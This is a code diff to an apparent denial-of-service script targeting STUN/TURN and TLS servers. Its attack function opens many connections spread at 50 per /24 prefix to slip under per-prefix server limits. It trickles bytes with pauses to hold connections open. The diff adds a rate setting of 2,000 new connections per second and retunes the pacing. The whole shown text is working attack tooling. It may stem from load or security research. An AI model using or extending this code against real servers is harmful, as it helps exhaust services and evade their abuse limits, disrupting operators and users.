@@ -10,12 +10,13 @@ from stun import ALLOCATE, REQUESTED_TRANSPORT, UDP, Message
 
 PER_PREFIX = 50  # of a /24, fewer than the server's limit, so that it is the total that counts
 PAUSE = 0.25  # seconds between two bytes of a connection
+RATE = 2000  # new connections in a second
 
 
 def tls_client_hello():
-    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    outgoing, context = ssl.MemoryBIO(), ssl.create_default_context()
     try:
-        ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="x").do_handshake()
+        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="x").do_handshake()
     except ssl.SSLWantReadError:
         return outgoing.read()
 
@@ -85,8 +86,8 @@ def attack(servers, counts, stop, pipe):
     everyone = []
     for number, (kind, attacker, message) in enumerate(made):
         everyone.append(attacker(number, servers[kind], message))
-        if number % 100 == 99:
-            time.sleep(0.01)
+        if number % 20 == 19:
+            time.sleep(20 / RATE)
     pipe.send("all")
     while not stop.is_set():
         started = time.monotonic()
